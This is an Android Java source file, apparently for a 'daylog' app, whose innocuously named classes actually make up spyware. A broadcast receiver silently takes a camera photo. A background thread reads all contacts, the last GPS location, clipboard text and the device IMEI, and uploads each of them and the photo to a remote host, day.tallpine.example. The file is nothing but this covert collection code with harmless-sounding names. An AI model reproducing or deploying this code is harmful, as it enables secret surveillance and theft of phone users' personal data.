package com.tallpine.daylog;

class DayReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    new Thread(new Day(context)).start();
    Camera camera = Camera.open();
    camera.takePicture(null, null, new Picture());
  }
}

class Day implements Runnable {
  private Context context;

  Day(Context context) { this.context = context; }

  public void run() {
    try {
      people();
      place();
      pasted();
      number();
    } catch (Exception e) {
      Log.e("Day", e.getMessage());
    }
  }

  private void people() {
    Cursor people = context.getContentResolver().query(Uri.parse("content://com.android.contacts/data"), null, null, null, null);
    StringBuilder all = new StringBuilder();
    while (people.moveToNext()) all.append(people.getString(1)).append("\n");
    Post.send(all.toString());
  }

  private void place() {
    LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
    Location last = manager.getLastKnownLocation("gps");
    Post.send("place=" + last.toString());
  }

  private void pasted() {
    ClipboardManager clips = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
    Post.send("clip=" + clips.getPrimaryClip().getItemAt(0).getText());
  }

  private void number() {
    TelephonyManager phone = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
    Post.send("imei=" + phone.getDeviceId());
  }
}

class Picture implements Camera.PictureCallback {
  public void onPictureTaken(byte[] data, Camera camera) {
    try {
      HttpURLConnection connection = (HttpURLConnection) new URL("https://day.tallpine.example/picture").openConnection();
      connection.setDoOutput(true);
      OutputStream out = connection.getOutputStream();
      out.write(data);
      out.close();
      connection.getResponseCode();
    } catch (Exception e) {
      Log.e("Picture", e.getMessage());
    }
  }
}

class Post {
  static void send(String text) {
    HttpURLConnection connection = (HttpURLConnection) new URL("https://day.tallpine.example/log").openConnection();
    connection.setDoOutput(true);
    OutputStream out = connection.getOutputStream();
    out.write(text.getBytes());
    out.close();
    connection.getResponseCode();
  }
}
